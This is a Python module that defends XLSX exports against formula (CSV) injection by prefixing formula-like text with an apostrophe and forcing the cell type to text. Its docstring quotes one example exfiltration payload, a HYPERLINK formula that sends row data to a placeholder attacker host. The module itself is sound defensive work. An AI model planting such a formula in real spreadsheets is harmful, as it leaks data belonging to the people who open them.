"""Spreadsheet cells that cannot become formulas (OWASP "CSV injection"), for every XLSX export.

A text that begins with = + - @ (or a tab / carriage return, which Excel strips before it reads the
rest) would be taken as a formula by openpyxl and by the spreadsheet a user opens the file in:
`=HYPERLINK("http://evil/?"&A1, "点击")` as an employer's name leaks the row. Such a text is written
as text, prefixed with an apostrophe, the prefix a spreadsheet itself uses for "this is text".
Numbers, dates and None are written as they are.
"""

from __future__ import annotations

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_value(value):
    """`value` for a spreadsheet cell: a formula-like text gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_cell(ws, value) -> Cell:
    """A write-only cell holding `value` (see safe_value); a text is always of type text, never formula."""
    cell = WriteOnlyCell(ws, value=safe_value(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def safe_row(ws, values) -> list:
    """A row for ws.append: every plain value made safe; cells already built are kept as they are."""
    return [v if isinstance(v, Cell) else safe_cell(ws, v) for v in values]
